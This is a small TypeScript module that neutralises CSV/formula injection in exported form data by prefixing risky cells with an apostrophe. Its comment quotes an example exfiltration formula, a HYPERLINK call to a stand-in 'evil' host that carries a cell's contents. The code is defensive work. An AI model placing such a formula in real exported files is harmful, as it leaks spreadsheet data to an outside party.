/**
 * CSV / formula injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
 * return is run as a formula by Excel and LibreOffice (`=HYPERLINK("http://evil/?"&A1,"klik")`).
 * Exported text from candidates (typed by anyone through the website form) gets a leading
 * apostrophe, which spreadsheets show as text and do not evaluate (OWASP's advice).
 */
const DANGEROUS = /^[=+\-@\t\r]/;

export function neutraliseCell(value: string): string {
  return DANGEROUS.test(value) ? `'${value}` : value;
}

export function isDangerousCell(value: string): boolean {
  return DANGEROUS.test(value);
}
